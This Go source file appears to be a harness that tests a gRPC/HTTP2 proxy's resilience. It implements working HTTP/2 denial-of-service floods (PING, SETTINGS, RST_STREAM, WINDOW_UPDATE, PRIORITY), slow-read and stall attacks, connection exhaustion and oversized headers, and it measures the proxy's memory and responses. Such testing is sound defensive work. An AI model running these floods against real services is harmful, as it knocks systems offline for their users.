package main

import (
	"context"
	"encoding/binary"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// openCall opens a stream to path and, when end is set, sends an empty
// gRPC message with END_STREAM (a complete unary or server-streaming
// request).
func openCall(c *clientConn, path string, end bool, extra ...hpack.HeaderField) (uint32, error) {
	id, err := c.openStream(path, false, extra...)
	if err != nil || !end {
		return id, err
	}
	err = c.write(func(fr *http2.Framer) error { return fr.WriteData(id, true, emptyMessage) })
	c.rec.sent(1, 9+int64(len(emptyMessage)))
	return id, err
}

// openMany opens up to n streams to path on c, never more than the proxy's
// MAX_CONCURRENT_STREAMS, and notes when that capped it.
func openMany(e *env, c *clientConn, path string, n int, end bool) ([]uint32, error) {
	if uint32(n) > c.peerMCS {
		e.note("the proxy allows %d streams per connection: opened %d of %d", c.peerMCS, c.peerMCS, n)
		n = int(c.peerMCS)
	}
	ids := make([]uint32, 0, n)
	for range n {
		id, err := openCall(c, path, end)
		if err != nil {
			c.failed(err)
			return ids, err
		}
		ids = append(ids, id)
	}
	return ids, nil
}

func zeroWindow(ctx context.Context, e *env) error {
	var wg sync.WaitGroup
	for range 4 {
		c, err := e.dial(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: e.window})
		if err != nil {
			return err
		}
		go c.readLoop()
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, _ = openMany(e, c, pathBig, 100, true)
		}()
	}
	wg.Wait()
	<-ctx.Done()
	return nil
}

func tinyUnread(ctx context.Context, e *env) error {
	c, err := e.dial(ctx)
	if err != nil {
		return err
	}
	go c.readLoop()
	if _, err := openMany(e, c, pathTiny, 8, true); err != nil {
		return err
	}
	<-ctx.Done()
	return nil
}

func byteDataStall(ctx context.Context, e *env) error {
	c, err := e.dial(ctx)
	if err != nil {
		return err
	}
	flow := newSendFlow(c.peerInitWin)
	c.flow = flow
	go c.readLoop()
	go flow.wakeOnDone(ctx)
	ids := make([]uint32, 0, 100)
	n := min(100, int(c.peerMCS))
	for range n {
		id, err := c.openStream(pathStall, false)
		if err != nil {
			c.failed(err)
			return err
		}
		flow.open(id)
		ids = append(ids, id)
	}
	one := []byte{0}
	for ctx.Err() == nil {
		got := flow.take(ctx, ids, 512)
		if got == nil {
			break
		}
		err := c.write(func(fr *http2.Framer) error {
			for _, id := range got {
				if err := fr.WriteData(id, false, one); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil {
			c.failed(err)
			break
		}
		c.rec.sent(int64(len(got)), int64(len(got))*10)
	}
	<-ctx.Done()
	return nil
}

func idleConns(ctx context.Context, e *env) error {
	var (
		next    atomic.Int64
		opened  atomic.Int64
		wg      sync.WaitGroup
		dialCtx = ctx
	)
	t0 := time.Now()
	for range e.dialWorkers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for dialCtx.Err() == nil && next.Add(1) <= int64(e.idleConns) {
				c, err := e.dial(dialCtx)
				if err != nil {
					continue
				}
				opened.Add(1)
				go c.readLoop()
			}
		}()
	}
	wg.Wait()
	dialSecs := time.Since(t0).Seconds()
	base := e.samp.stats().RSSStartKB
	// Let the proxy settle before reading its RSS.
	select {
	case <-ctx.Done():
	case <-time.After(time.Second):
	}
	rss := e.samp.current()
	n := opened.Load()
	e.note("%d connections open after %.1f s", n, dialSecs)
	if n > 0 {
		per := float64(rss-base) / float64(n)
		e.perConnK = &per
		e.note("RSS %.0f → %.0f MiB once all were open: %.1f KiB per connection", float64(base)/1024, float64(rss)/1024, per)
	}
	<-ctx.Done()
	return nil
}

// flood writes frames made by one() in batches until ctx ends or the
// connection fails; one returns the frame's wire size.
func flood(ctx context.Context, c *clientConn, one func(fr *http2.Framer, i int) (int, error)) {
	const batch = 256
	i := 0
	for ctx.Err() == nil {
		var bytes int64
		err := c.write(func(fr *http2.Framer) error {
			for range batch {
				n, err := one(fr, i)
				if err != nil {
					return err
				}
				bytes += int64(n)
				i++
			}
			return nil
		})
		c.rec.sent(batch, bytes)
		if err != nil {
			if ctx.Err() == nil {
				c.failed(err)
			}
			return
		}
	}
}

// floodUnread is flood on a connection that never reads during the attack:
// what the proxy answers piles up in the sockets and then in the proxy.
// After the attack it reads for a moment to find a GOAWAY.
func floodUnread(ctx context.Context, e *env, c *clientConn, one func(fr *http2.Framer, i int) (int, error)) {
	if tc, ok := c.nc.(*net.TCPConn); ok {
		_ = tc.SetReadBuffer(64 << 10)
	}
	flood(ctx, c, one)
	if !c.stopping.Load() {
		c.drain(2 * time.Second)
	}
	e.note("the attacker read nothing during the flood; a GOAWAY or close is seen only after it")
}

func floodWindowUpdate(ctx context.Context, e *env) error {
	c, err := e.dial(ctx)
	if err != nil {
		return err
	}
	go c.readLoop()
	ids, err := openMany(e, c, pathSlow, 10, false)
	if err != nil || len(ids) == 0 {
		return err
	}
	flood(ctx, c, func(fr *http2.Framer, i int) (int, error) {
		id := uint32(0)
		if i%2 == 1 {
			id = ids[(i/2)%len(ids)]
		}
		return 13, fr.WriteWindowUpdate(id, 1)
	})
	<-ctx.Done()
	return nil
}

func floodPriority(ctx context.Context, e *env) error {
	c, err := e.dial(ctx)
	if err != nil {
		return err
	}
	go c.readLoop()
	flood(ctx, c, func(fr *http2.Framer, i int) (int, error) {
		id := uint32(2*(i%(1<<29)) + 1)
		dep := uint32(0)
		if id > 2 {
			dep = id - 2
		}
		return 14, fr.WritePriority(id, http2.PriorityParam{StreamDep: dep, Exclusive: i%2 == 0, Weight: uint8(i)})
	})
	<-ctx.Done()
	return nil
}

func floodRSTClosed(ctx context.Context, e *env) error {
	c, err := e.dial(ctx)
	if err != nil {
		return err
	}
	var done atomic.Int64
	c.onFrame = func(f http2.Frame) {
		if f.Header().Flags.Has(http2.FlagHeadersEndStream) && f.Header().Type == http2.FrameHeaders {
			done.Add(1)
		}
	}
	go c.readLoop()
	ids, err := openMany(e, c, pathEmpty, 100, true)
	if err != nil || len(ids) == 0 {
		return err
	}
	for i := 0; i < 100 && done.Load() < int64(len(ids)); i++ {
		time.Sleep(20 * time.Millisecond)
	}
	e.note("%d of %d calls had finished when the flood began", done.Load(), len(ids))
	flood(ctx, c, func(fr *http2.Framer, i int) (int, error) {
		return 13, fr.WriteRSTStream(ids[i%len(ids)], http2.ErrCodeCancel)
	})
	<-ctx.Done()
	return nil
}

func floodSettings(ctx context.Context, e *env) error {
	c, err := e.dial(ctx)
	if err != nil {
		return err
	}
	ids, err := openMany(e, c, pathSlow, 1000, false)
	if err != nil {
		return err
	}
	e.note("%d streams open during the flood", len(ids))
	values := []uint32{0, 65535, 1, 1 << 20}
	floodUnread(ctx, e, c, func(fr *http2.Framer, i int) (int, error) {
		return 15, fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: values[i%len(values)]})
	})
	<-ctx.Done()
	return nil
}

func floodPing(ctx context.Context, e *env) error {
	c, err := e.dial(ctx)
	if err != nil {
		return err
	}
	var data [8]byte
	floodUnread(ctx, e, c, func(fr *http2.Framer, i int) (int, error) {
		binary.BigEndian.PutUint64(data[:], uint64(i))
		return 17, fr.WritePing(false, data)
	})
	<-ctx.Done()
	return nil
}

func floodEmptyData(ctx context.Context, e *env) error {
	c, err := e.dial(ctx)
	if err != nil {
		return err
	}
	go c.readLoop()
	ids, err := openMany(e, c, pathStall, 10, false)
	if err != nil || len(ids) == 0 {
		return err
	}
	flood(ctx, c, func(fr *http2.Framer, i int) (int, error) {
		return 9, fr.WriteData(ids[i%len(ids)], false, nil)
	})
	<-ctx.Done()
	return nil
}

func streamHog(ctx context.Context, e *env) error {
	var wg sync.WaitGroup
	for range 12 {
		c, err := e.dial(ctx)
		if err != nil {
			continue
		}
		go c.readLoop()
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, _ = openMany(e, c, pathSlow, 100, false)
		}()
	}
	wg.Wait()
	<-ctx.Done()
	return nil
}

// bigHeaderBytes is the decoded size of the oversized header's value.
const bigHeaderBytes = 200_000

func bigHeader(ctx context.Context, e *env) error {
	// Letters and digits: HPACK's Huffman code shrinks them by about a
	// quarter only, so the block on the wire stays near 150 KB.
	const alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	var sb strings.Builder
	for i := range bigHeaderBytes {
		sb.WriteByte(alphabet[(i*7919+i/62)%len(alphabet)])
	}
	big := hpack.HeaderField{Name: "x-big", Value: sb.String()}

	var (
		mu       sync.Mutex
		outcomes = map[string]int{}
		bigIDs   = map[uint32]bool{}
		others   = map[uint32]bool{}
		sent     int
		reconns  int
		otherRST int
	)
	record := func(f http2.Frame) {
		id := f.Header().StreamID
		mu.Lock()
		defer mu.Unlock()
		switch f := f.(type) {
		case *http2.RSTStreamFrame:
			if bigIDs[id] {
				outcomes["RST_STREAM "+f.ErrCode.String()]++
				delete(bigIDs, id)
			} else if others[id] {
				otherRST++
			}
		case *http2.MetaHeadersFrame:
			if bigIDs[id] {
				outcomes[responseKey(f)]++
				delete(bigIDs, id)
			}
		case *http2.GoAwayFrame:
			if len(bigIDs) > 0 {
				outcomes["GOAWAY "+f.ErrCode.String()]++
				clear(bigIDs)
			}
		}
	}
	tick := time.NewTicker(100 * time.Millisecond)
	defer tick.Stop()
	for ctx.Err() == nil {
		c, err := e.dial(ctx)
		if err != nil {
			time.Sleep(100 * time.Millisecond)
			continue
		}
		c.onFrame = record
		go c.readLoop()
		ids, _ := openMany(e, c, pathSlow, 10, false)
		mu.Lock()
		for _, id := range ids {
			others[id] = true
		}
		mu.Unlock()
	conn:
		for {
			select {
			case <-ctx.Done():
				break conn
			case <-c.dead:
				reconns++
				break conn
			case <-tick.C:
				id, err := openCall(c, pathEmpty, true, big)
				if err != nil {
					c.failed(err)
					reconns++
					break conn
				}
				mu.Lock()
				bigIDs[id] = true
				sent++
				mu.Unlock()
			}
		}
		// The 10 other streams of a connection that is still up survived.
		mu.Lock()
		clear(others)
		mu.Unlock()
	}
	mu.Lock()
	defer mu.Unlock()
	e.note("%d oversized requests sent; answers: %s", sent, countsString(outcomes))
	e.note("other streams reset: %d; connections lost and reopened: %d", otherRST, reconns)
	return nil
}
